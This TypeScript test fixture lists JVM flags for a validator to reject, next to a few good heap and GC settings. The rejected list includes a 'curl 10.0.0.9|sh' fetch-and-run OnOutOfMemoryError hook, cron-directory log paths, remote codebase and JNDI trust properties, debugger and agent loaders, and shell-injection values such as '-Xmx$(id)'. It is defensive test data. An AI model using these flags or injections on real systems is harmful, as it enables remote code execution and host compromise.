/** What each of these starts, loads, opens or reads on the host where a JVM is started with it. */
const families: Readonly<Record<string, readonly string[]>> = {
  agents: [
    '-javaagent:/tmp/a.jar',
    '-javaagent:a.jar=x',
    '-agentlib:hprof',
    '-agentpath:/tmp/a.so',
  ],
  debuggers: [
    '-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005',
    '-Xrunjdwp:transport=dt_socket,server=y,address=5005',
    '-Xdebug',
    '-Xrunhprof:cpu=samples',
    '-XX:+StartAttachListener',
    '-XX:-DisableAttachMechanism',
  ],
  commands: [
    '-XX:OnError=id',
    '-XX:OnError=gdb -p %p',
    '-XX:OnOutOfMemoryError=reboot',
    '-XX:OnOutOfMemoryError=kill',
    '-XX:OnOutOfMemoryError="curl 10.0.0.9|sh"',
    '-XX:+CrashOnOutOfMemoryError',
    '-XX:+ShowMessageBoxOnError',
  ],
  classPaths: [
    '-cp',
    '-cp /tmp',
    '-classpath /tmp',
    '--class-path=/tmp',
    '--class-path /tmp',
    '-Xbootclasspath:/tmp',
    '-Xbootclasspath/a:/tmp/a.jar',
    '-Xbootclasspath/p:/tmp/a.jar',
    '-jar /tmp/a.jar',
    '--module-path=/tmp',
    '-p /tmp',
    '--add-modules=ALL-SYSTEM',
    '--patch-module=java.base=/tmp',
    '--add-opens=java.base/java.lang=ALL-UNNAMED',
    '--add-exports=a/b=c',
    '--upgrade-module-path=/tmp',
    '-m a/b.C',
    '-verbose:class',
    '--source 17',
    'com.example.Main',
  ],
  files: [
    '@/tmp/args',
    '@argfile',
    '-XX:Flags=/tmp/.hotspotrc',
    '-XX:+ReadVMOptionsFile',
    '-XX:VMOptionsFile=/tmp/x',
    '-XX:CompileCommandFile=/tmp/x',
    '-XX:CompilerDirectivesFile=/tmp/x',
    '-XX:HeapDumpPath=/tmp/x',
    '-XX:+HeapDumpOnOutOfMemoryError',
    '-XX:ErrorFile=/etc/cron.d/x',
    '-XX:LogFile=/etc/cron.d/x',
    '-XX:+LogVMOutput',
    '-Xloggc:/etc/cron.d/x',
    '-Xlog:gc:file=/etc/cron.d/x',
    '-XX:SharedArchiveFile=/tmp/x',
    '-XX:SharedClassListFile=/tmp/x',
    '-XX:ArchiveClassesAtExit=/tmp/x',
    '-XX:AOTCache=/tmp/x',
    '-XX:AOTLibrary=/tmp/x.so',
    '-XX:StartFlightRecording=filename=/tmp/x',
    '-XX:FlightRecorderOptions=repository=/tmp',
    '-XX:ReplayDataFile=/tmp/x',
    '-XX:PerfDataSaveFile=/tmp/x',
    '-XX:JVMCILibPath=/tmp',
    '-XX:CRaCRestoreFrom=/tmp',
  ],
  settings: [
    '-XX:+UnlockDiagnosticVMOptions',
    '-XX:+UnlockExperimentalVMOptions',
    '-XX:+IgnoreUnrecognizedVMOptions',
    '-XX:+ManagementServer',
    '-XX:-UsePerfData',
    '-XX:+DisableExplicitGC',
    '-XX:+UseZGC',
    '-XX:NativeMemoryTracking=detail',
    '-Xnoclassgc',
    '-Xverify:none',
    '-XX:-BytecodeVerificationRemote',
    '-Xint',
    '-Xshare:dump',
    '--enable-preview',
    '--illegal-access=permit',
    '--enable-native-access=ALL-UNNAMED',
    '-ea',
    '-esa',
    '-dsa',
    '-splash:/tmp/x',
    '-version',
    '-help',
    '-X',
    '-',
    '--',
    '-D',
  ],
}

const properties = `
  com.sun.management.jmxremote com.sun.management.jmxremote.port=9999
  com.sun.management.jmxremote.authenticate=false com.sun.management.jmxremote.ssl=false
  com.sun.management.config.file=/tmp/x java.rmi.server.codebase=http://10.0.0.9/
  java.rmi.server.useCodebaseOnly=false com.sun.jndi.ldap.object.trustURLCodebase=true
  com.sun.jndi.rmi.object.trustURLCodebase=true java.naming.factory.initial=a.B
  java.naming.provider.url=ldap://10.0.0.9 java.security.manager=allow java.security.policy==/tmp/x
  java.security.properties=/tmp/x java.security.auth.login.config=/tmp/x java.class.path=/tmp
  java.ext.dirs=/tmp java.endorsed.dirs=/tmp java.library.path=/tmp jdk.module.path=/tmp
  sun.boot.library.path=/tmp java.io.tmpdir=/tmp user.dir=/tmp user.home=/tmp
  java.system.class.loader=a.B http.proxyHost=10.0.0.9 socksProxyHost=10.0.0.9
  javax.net.ssl.trustStore=/tmp/x javax.net.ssl.keyStore=/tmp/x javax.net.debug=all
  log4j.configurationFile=http://10.0.0.9/x log4j2.formatMsgNoLookups=false
  logback.configurationFile=http://10.0.0.9/x java.util.logging.config.class=a.B
  org.apache.commons.collections.enableUnsafeSerialization=true jdk.serialFilter=*
  jdk.attach.allowAttachSelf=true sun.misc.URLClassPath.debug=true
  groovy.source.encoding=x jdbc.drivers=a.B`
  .trim()
  .split(/\s+/)
  .map((property) => `-D${property}`)

const bad = [...Object.values(families).flat(), ...properties]

/** A good flag, spoilt: look-alikes of its letters, signs that no one sees, quotes, and what a shell would do. */
const spoilt = [
  '-Xmx4ｇ',
  '‐Xmx4g',
  '–Xmx4g',
  '－Xmx4g',
  '-Хmx4g',
  '-Xmх4g',
  '-Xmx４g',
  '-Xmx4g\u200b',
  '\ufeff-Xmx4g',
  '-Xmx\u202e4g',
  '-Xmx4g\u00a0-Xms4g',
  '-Xmx4g\u3000-Xms4g',
  '-Xmx4g\u2028-Xms4g',
  '-Xmx4g\u0085-Xms4g',
  '-Xmx4g\t-Xms4g',
  '-Xmx4g\n-Xms4g',
  '-Xmx4g\r-Xms4g',
  '-Xmx4g\0',
  '-Xmx4g\v',
  '-Xmx4g\f-Xms4g',
  '"-Xmx4g"',
  "'-Xmx4g'",
  '-Xmx"4g"',
  '-Xmx4g\\',
  '\\-Xmx4g',
  '-Xmx$(id)',
  '-Xmx`id`',
  '-Xmx${HOME}',
  '$JAVA_OPTS',
  '-Xmx4g;id',
  '-Xmx4g|id',
  '-Xmx4g&id',
  '-Xmx4g&&id',
  '-Xmx4g>/tmp/x',
  '-Xmx4g<x',
  '-Xmx4g*',
  '-Xmx4g#x',
  '-Xmx4g,-Xms4g',
  '-Xmx=4g',
  '-Xmx 4g',
  '-XMX4g',
  '-xmx4g',
  '--Xmx4g',
  '-Xmx-4g',
  '-Xmx+4g',
  '-Xmx0g',
  '-Xmx4',
  '-Xmx4t',
  '-Xmx4gb',
  '-Xmx4.5g',
  '-Xmx4e3g',
  '-Xmx0x4g',
  '-Xmx99999999g',
  '-Xmx4g%0a-cp',
  '-XX:+UseG1GC=true',
  '-XX:MaxMetaspaceSize=',
  '-XX:MaxGCPauseMillis=200ms',
  '-server:x',
  '-Serverx',
]

/** Each alone, behind and before good flags, and glued to one. */
export const badJvmFlags: readonly string[] = [
  ...new Set([
    ...spoilt,
    ...bad.flatMap((flag) => [
      flag,
      `-Xms4g -Xmx4g ${flag}`,
      `${flag} -Xmx4g`,
      `-Xmx4g${flag}`,
      `-Xmx4g\n${flag}`,
      `-XX:MaxMetaspaceSize=1g${flag}`,
    ]),
  ]),
]

export const goodJvmFlags = [
  '-Xms4g -Xmx6g -Xmn2g',
  '-server -Xms4g -Xmx4g -Xss512k',
  '-Xmx512m -XX:+UseG1GC -XX:MaxGCPauseMillis=200',
  '-Xms8G -Xmx8G -XX:+UseParallelGC -XX:ParallelGCThreads=8',
  '-Xmx6g -XX:MaxDirectMemorySize=2g -XX:MetaspaceSize=128m -XX:MaxMetaspaceSize=256m',
  '  -Xmx4g  -XX:+UseConcMarkSweepGC ',
] as const
